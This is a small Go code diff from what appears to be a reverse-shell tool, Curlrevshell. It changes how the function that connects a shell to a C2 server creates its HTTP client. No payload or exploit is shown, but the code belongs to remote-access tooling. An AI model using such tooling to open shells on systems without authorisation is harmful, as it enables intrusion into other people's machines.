@@ -69,7 +69,7 @@ func GoSimple(ctx context.Context, c2, fingerprint string, args []string) error 
 // Go connects a Shell to Curlrevshell.
 func Go(ctx context.Context, conf ConnConfig, shell Shell) error {
 	/* Roll an HTTP client. */
-	client := http.DefaultClient
+	client := new(http.Client) /* Ours alone; don't touch the default. */
 	/* Add fingerprint verification if we have it. */
 	if "" != conf.Fingerprint {
 		vfp, err := TLSFingerprintVerifier(conf.Fingerprint)
